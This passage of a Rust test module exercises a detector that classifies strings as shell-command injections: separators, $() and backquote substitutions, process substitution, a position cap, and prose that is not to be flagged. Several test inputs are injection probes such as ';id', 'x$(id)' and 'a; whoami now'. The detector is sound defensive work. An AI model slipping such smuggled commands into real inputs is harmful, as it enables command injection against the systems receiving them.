            assert_eq!(shape(input), Some(*expected), "{input}");
        }
    }

    #[test]
    fn positions_are_capped() {
        let hostile = ";a".repeat(MAX_POSITIONS + 1);
        assert_eq!(shape(&hostile), Some(Shape::TooManyPositions));
        let attack_after_the_cap = format!("{hostile};id");
        assert_eq!(
            shape(&attack_after_the_cap),
            Some(Shape::TooManyPositions),
            "the rest is the patterns' work"
        );
        assert_eq!(shape(&";a".repeat(MAX_POSITIONS)), None);
    }

    #[test]
    fn a_parenthesis_opens_a_substitution_only_after_a_dollar_or_a_redirection() {
        assert_eq!(shape("x$(id)"), Some(Shape::Substitution));
        assert_eq!(shape("diff <(whoami) x"), Some(Shape::Substitution));
        assert_eq!(shape("I said (id is my name)"), None, "a parenthesis in prose substitutes nothing");
        // At the very start there is no byte before it to look at.
        assert_eq!(shape("(whoami)"), Some(Shape::WholeCommand));
    }

    #[test]
    fn only_a_line_start_is_turned_away_as_prose_before_its_command_is_read() {
        // After a separator a program followed by a word is still a command; at the start it reads as prose.
        assert_eq!(shape("a; whoami now"), Some(Shape::Separated));
        assert_eq!(shape("a && whoami now"), Some(Shape::Separated));
        assert_eq!(shape("whoami now"), None);
    }

    #[test]
    fn a_backquote_is_a_substitution_unless_it_opens_a_code_span_after_a_space() {
        // At the start and glued to a word: the shell substitutes.
        assert_eq!(shape("`id`"), Some(Shape::Substitution));
        assert_eq!(shape("name`id`"), Some(Shape::Substitution));
        // After a space: markdown's code span, a finding only with shell-shaped arguments, and nothing when
        // what follows is prose.
        assert_eq!(shape("run `ls -la /etc` now"), Some(Shape::ProseCommand));
        assert_eq!(shape("Use `ls` to list files"), Some(Shape::ProseCommand), "a program alone in its span");
        assert_eq!(shape("Type `date tomorrow` please"), None, "a word of the vocabulary followed by prose");
    }

    #[test]
    fn prose_is_not_a_command() {
        for input in [
            "Tom & Jerry",
            "Find the answer, please",
            "I love tea; more please",
            "Python is great",
            "Sleep well & dream",
            "R&D and AT&T",
            "Use `ls` to list files",
            "The cat sat on the mat",
            "ID card lost",
            "/whoami",
            "/api/env",
            "ash, I then looked round",
            "for two years; at\r\nonce",
            "SET 8 -MINI AS",
            "time, so kindly take us",
            "",
            "$",
            "${",
            "$'",
            "\\",
        ] {
            assert!(
                shape(input).is_none_or(|shape| shape == Shape::ProseCommand),
                "{input}: {:?}",
                shape(input)
            );
        }
    }
}
